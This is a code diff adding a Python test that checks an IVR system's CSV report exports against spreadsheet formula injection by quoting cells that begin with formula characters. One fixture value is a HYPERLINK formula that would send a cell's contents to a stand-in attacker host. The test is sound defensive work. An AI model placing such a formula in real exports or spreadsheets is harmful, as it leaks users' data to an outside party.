@@ -18,6 +18,7 @@ from ivr.core.models import (
     Ticket,
     UnansweredQuestion,
 )
+from ivr.reports import NAMES
 from tests.admin_client import HTML, AdminClient, add_users, signed_in
 
 NOW = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)  # 10:00 on Tuesday 24 November, local
@@ -334,3 +335,52 @@ def test_a_viewer_reads_a_signed_out_client_is_sent_to_sign_in(make_ivr: Any) ->
     assert outsider.http.get("/admin/reports/summary.csv").status_code == 401
     for role in ("viewer", "supervisor", "admin"):
         assert signed_in(ivr, role).get(f"/admin/reports?{RANGE}").status_code == 200
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_every_csv_export_neutralises_formulas(make_ivr: Any) -> None:
+    """Text from callers, agents and the dialplan reaches every table; in the CSV, a cell
+    that a spreadsheet would run as a formula starts with a single quote instead."""
+    ivr, viewer = ready(make_ivr)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    at = utc(23, 4, 30)
+    rows: list[Any] = [
+        call(
+            "f1",
+            at,
+            queue="+queue",
+            handled_by="human",
+            category=evil,
+            tags=["-tag"],
+            self_service=["@sum"],
+            outcome="\tend",
+        ),
+        queued("f1", at, "answered", 5, queue="+queue", agent="=agent", talk_s=10),
+        agent("=agent", "login", utc(23, 4)),
+        agent("=agent", "logout", utc(23, 5)),
+        survey("f1", 3, at, "\rhuman", "=agent"),
+        UnansweredQuestion(language="vi", text=evil, asked_at=at),
+        Ticket(
+            reference="T2",
+            call_id="f1",
+            caller="0912345678",
+            language="vi",
+            level1="@level",
+            category="-category",
+            summary="...",
+            status="open",
+            created_at=at,
+            due_at=utc(24, 17),
+        ),
+    ]
+    with ivr.services.outbox.database.session() as session:
+        session.add_all(rows)
+    seen: set[str] = set()
+    for name in NAMES:
+        cells = [cell for row in table(viewer, name) for cell in row]
+        assert not [c for c in cells if c.startswith(FORMULA_START)], name
+        seen |= {c for c in cells if c.startswith("'")}
+    assert "'" + evil in seen  # the category and the unanswered question
+    assert {"'+queue", "'=agent", "'-tag", "'@sum", "'@level", "'-category"} <= seen
